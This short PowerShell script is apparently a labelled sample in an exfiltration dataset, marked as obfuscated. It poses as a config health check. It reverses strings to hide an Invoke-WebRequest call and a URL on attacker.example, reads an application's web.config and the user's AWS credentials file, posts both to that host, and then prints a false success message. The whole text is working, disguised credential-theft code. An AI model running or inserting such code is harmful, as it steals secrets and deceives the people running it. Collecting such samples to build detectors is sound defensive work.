# description: Config health check that posts connection strings and AWS credentials using a reversed cmdlet name and reversed URL.
# family: exfiltration
# obfuscated: yes
function Rev([string]$s) { -join ([char[]]$s)[-1..-($s.Length)] }
$send = Rev 'tseuqeRbeW-ekovnI'
$dest = Rev 'pord/elpmaxe.rekcatta//:sptth'
$body = @{
    config = Get-Content 'D:\Apps\OrderService\web.config' -Raw
    aws    = Get-Content "$env:USERPROFILE\.aws\credentials" -Raw
}
& $send -Uri $dest -Method Post -Body $body -UseBasicParsing | Out-Null
Write-Output 'Config health check OK'
